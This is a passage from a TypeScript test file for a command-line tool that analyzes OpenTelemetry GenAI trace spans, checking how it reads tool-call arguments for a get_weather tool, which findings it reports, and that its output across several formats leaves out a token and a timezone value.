    expect(holding).toEqual(['invoke_agent tool_agent gen_ai.output.messages', 'chat ToolModel gen_ai.output.messages', 'execute_tool get_weather gen_ai.tool.call.arguments', 'chat ToolModel gen_ai.input.messages']);
    const run = analyzeBin(path, '--format', 'json');
    expect(run.code, rule).toBe(1);
    expect(parseJson(run).stats.foreign_calls).toBe(1);
    expect(parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([[rule, 'get_weather', key, 'genai-semconv']]);
    for (const format of ['table', 'json', 'sarif', 'junit', 'html']) {
      const out = analyzeBin(path, '--format', format);
      for (const value of ['America/Los_Angeles', TOKEN]) expect(out.stdout + out.stderr, `${format}: ${value}`).not.toContain(value);
    }
  });

  it('without the tool span the call is the model\'s proposal, its arguments read from the JSON string in the tool_call part', () => {
    const { path } = planted('"location": "Seattle", "timezone": "America/Los_Angeles"', (name) => !name.startsWith('execute_tool'));
    const run = analyzeBin(path, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).stats.foreign_calls).toBe(1);
    expect(parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['assumption_span', 'get_weather', 'timezone', 'genai-semconv']]);
  });

  it('a function that took no arguments (the tool span\'s `None`, no model span to copy from) is read as a call without arguments, not counted as unread', async () => {
    const doc = load();
    doc.resourceSpans[0]!.scopeSpans[0]!.spans = spansOf(doc).filter((s) => !s.name.startsWith('chat'));
    for (const span of spansOf(doc)) for (const attr of span.attributes) if (attr.key === 'gen_ai.tool.call.arguments') attr.value.stringValue = 'None';
    const db = join(tmp(), 'none.duckdb');
    const run = analyzeBin(write(doc), '--format', 'json', '--db', db);
    expect(run.code).toBe(0);
    expect(parseJson(run).stats).toMatchObject({ foreign_calls: 1, unreadable_args_calls: 0 });
    expect(await query(db, 'SELECT tool, "key", rule FROM tool_args')).toEqual([{ tool: 'get_weather', key: '$', rule: 'empty' }]);
  });
});
